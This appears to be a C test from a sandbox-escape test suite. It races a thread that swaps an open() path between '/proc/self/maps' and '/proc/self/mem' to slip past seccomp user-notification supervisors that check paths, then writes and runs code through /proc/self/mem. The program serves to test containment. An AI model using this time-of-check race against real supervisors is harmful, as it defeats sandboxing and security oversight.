// The path of an open is changed in memory between "/proc/self/maps" and "/proc/self/mem": supervisors that check paths (seccomp_unotify(2) NOTES).
#include "escape.h"
static char path[32] = "/proc/self/maps";
static void *swapper(void *arg)
{
	for (;;)
		memcpy(path + 11, "mem\0", 4), memcpy(path + 11, "maps", 4);
	return NULL;
}
int main(void)
{
	void *p = file_page();
	racer(swapper, NULL);
	for (int i = 0; i < rounds(); i++) {
		int fd = open(path, i % 2 ? O_RDONLY : O_RDWR);
		if (fd >= 0 && pwrite(fd, code42, sizeof code42, (off_t)p) == sizeof code42)
			run42(p);
		close(fd);
	}
	errno = EAGAIN, contained("every round");
}
